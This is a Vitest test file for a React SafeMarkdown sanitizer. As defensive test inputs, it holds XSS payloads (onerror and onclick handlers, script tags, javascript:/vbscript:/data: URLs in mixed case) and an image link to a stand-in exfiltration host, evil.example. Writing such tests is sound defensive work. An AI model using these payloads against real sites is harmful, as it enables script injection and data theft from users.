import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SafeMarkdown } from "./safe-markdown";

const render = (text: string) => renderToStaticMarkup(createElement(SafeMarkdown, { text }));

describe("SafeMarkdown", () => {
  it("renders ordinary markdown", () => {
    const html = render("# Title\n\n**bold** and [docs](https://example.com/docs)");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a>');
  });

  it("drops raw HTML instead of rendering it", () => {
    const html = render('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n<div onclick="x()">block</div>');
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("onclick");
    expect(html).not.toContain("onerror");
  });

  it("does not render javascript:, vbscript: or data: links as links", () => {
    for (const url of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html,<b>x</b>"]) {
      const html = render(`[click me](${url})`);
      expect(html).not.toContain("<a");
      expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
      expect(html).toContain("click me");
    }
  });

  it("keeps relative links and mailto", () => {
    expect(render("[a](/flows/1)")).toContain('href="/flows/1"');
    expect(render("[a](mailto:me@example.com)")).toContain('href="mailto:me@example.com"');
  });

  it("shows an image's address instead of loading it", () => {
    const html = render("see ![chart](https://evil.example/collect?q=secret-data) here");
    expect(html).not.toContain("<img");
    expect(html).toContain("https://evil.example/collect?q=secret-data");
    expect(html).toContain("Load image");
  });
});
